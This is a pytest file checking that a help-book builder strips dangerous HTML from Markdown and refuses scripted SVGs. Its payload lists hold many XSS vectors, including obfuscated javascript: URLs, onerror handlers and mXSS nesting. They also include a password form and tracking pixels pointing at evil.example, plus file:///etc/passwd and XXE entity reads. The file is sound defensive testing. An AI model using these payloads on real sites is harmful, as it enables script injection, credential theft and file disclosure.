"""Whatever HTML stands in a Markdown file, nothing that runs, loads or spies comes out of it."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from helpviewer.book.book import Book
from index_build.build import build

if TYPE_CHECKING:
    from tests.conftest import MakeSource

NASTY = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<p onclick="alert(1)" onmouseover=alert(1)>text</p>',
    '<img src="x.png" onerror="alert(1)">',
    '<img src=x:alert(1) onerror="eval(src)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="d">',
    "![d](data:image/png;base64,AAAA)",
    "![r](https://evil.example/pixel.gif)",
    "![r](//evil.example/pixel.gif)",
    '<img src="file:///etc/passwd" alt="f">',
    '<img srcset="https://evil.example/a.png 2x" alt="s">',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>',
    '<style>body { background: url("https://evil.example/") }</style>',
    '<p style="background: url(https://evil.example/)">text</p>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    '<a href="java&#x09;script:alert(1)">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
    '<a href=" &#14; javascript:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<a title=">" href="javascript:alert(1)">a</a>',
    "<a\nhref\n=\njavascript:alert(1)>a</a>",
    '<a href="\\\\evil.example\\share">a</a>',
    '<a href="//evil.example/x">a</a>',
    "[a]: javascript:alert(1)\n\n[a]",
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<table background="https://evil.example/"><tr><td background="x">c</td></tr></table>',
    "<!--<img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
    '<video src="https://evil.example/v.mp4" autoplay></video><audio src="a.mp3"></audio>',
    "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
    '<pre data-code="7">x</pre>',
    '<p data-href="javascript:alert(1)" class="footnote-back">x</p>',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "## <img src=x onerror=alert(1)> Heading {onclick=alert(1)}",
    "text {: onclick=alert(1) style=x }",
    '!!! note "<script>alert(1)</script>"\n    x',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "A[^1].\n\n[^1]: <script>alert(1)</script>",
]

TAGS = {
    *(
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "p",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "blockquote",
        "hr",
        "pre",
        "aside",
    ),
    *(
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "figure",
        "figcaption",
        "img",
        "section",
        "a",
        "em",
        "strong",
    ),
    *("del", "code", "kbd", "sub", "sup", "mark", "br", "span", "details", "summary"),
}
ATTRIBUTES = {
    *("id", "class", "href", "src", "alt", "width", "height", "data-language", "data-kind"),
    *("start", "colspan", "rowspan", "title", "open", "data-tex"),
}


class Strict(HTMLParser):
    """Fails at whatever the book format does not know."""

    def __init__(self) -> None:
        super().__init__()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in ((name, value or "") for name, value in attrs):
            assert name in ATTRIBUTES, (tag, name)
            if name == "href":
                assert re.match(r"https?://[\w.-]+(/|$)|mailto:|#|[\w.-]+\.html(#|$)", value), value
            if name == "src":
                assert re.fullmatch(r"\.\./images/[\w.-]+", value), value

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"a declaration: {decl}")

    def unknown_decl(self, data: str) -> None:
        pytest.fail(f"a declaration: {data}")

    def handle_pi(self, data: str) -> None:
        pytest.fail(f"an instruction: {data}")


@pytest.mark.parametrize("number", [None, *range(len(NASTY))])
def test_nothing_survives(number: int | None, make_source: MakeSource, tmp_path: Path) -> None:
    nasty = NASTY if number is None else [NASTY[number]]
    source = make_source(
        {
            "book.yml": "id: a\ntitle: A\ncategories: folders\nmistakes: warn\n",
            "x/a.md": "Before.\n\n" + "\n\n".join(nasty) + "\n\nAfter.\n",
        }
    )

    build(source, tmp_path / "book")

    html = Book.open(tmp_path / "book").html("x-a")
    parser = Strict()
    parser.feed(html)
    parser.close()
    assert "Before." in parser.text
    if number is not None:
        assert "After." in parser.text
    assert [f.name for f in (tmp_path / "book" / "images").iterdir()] == []


def test_unsafe_links_are_reported(make_source: MakeSource) -> None:
    from index_build.build import check

    source = make_source(
        {
            "welcome.md": "---\nid: welcome\ntitle: W\n---\n"
            '<a href="java&#x09;script:alert(1)">a</a>\n\n[b](vbscript:x)\n\n![c](https://evil.example/x.png)\n'
        }
    )

    assert [(p.line, p.severity) for p in check(source) if p.severity == "error"] == [
        (5, "error"),
        (7, "error"),
        (9, "error"),
    ]


@pytest.mark.parametrize(
    "svg",
    [
        '<svg width="9" height="9"><script>alert(1)</script></svg>',
        '<svg width="9" height="9" onload="alert(1)"/>',
        '<svg width="9" height="9"><image href="https://evil.example/a.png"/></svg>',
        '<svg width="9" height="9"><image xlink:href="file:///etc/passwd"/></svg>',
        '<svg width="9" height="9"><rect fill="url(https://evil.example/#a)"/></svg>',
        '<svg width="9" height="9"><style>@imp@import "x";ort "https://evil.example/"</style></svg>',
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg width="9" height="9">&x;</svg>',
        '<svg width="9" height="9"><foreignObject><p/></foreignObject></svg>',
    ],
)
def test_an_svg_that_is_more_than_a_drawing_is_refused(svg: str, make_source: MakeSource) -> None:
    from index_build.build import check

    source = make_source({"welcome.md": "---\nid: welcome\ntitle: W\n---\n![a](a.svg)", "a.svg": svg})

    (problem,) = check(source)
    assert problem.file.endswith("a.svg")
    assert "script or loads something" in problem.sentence


def test_a_style_that_an_svg_would_load_is_not_in_the_book(make_source: MakeSource, tmp_path: Path) -> None:
    svg = '<svg width="9" height="9"><style>@import "https://evil.example/"</style></svg>'
    source = make_source({"welcome.md": "---\nid: welcome\ntitle: W\n---\n![a](a.svg)", "a.svg": svg})
    build(source, tmp_path / "book")
    (picture,) = (tmp_path / "book" / "images").iterdir()
    assert picture.read_text() == '<svg width="9" height="9"><style></style></svg>'
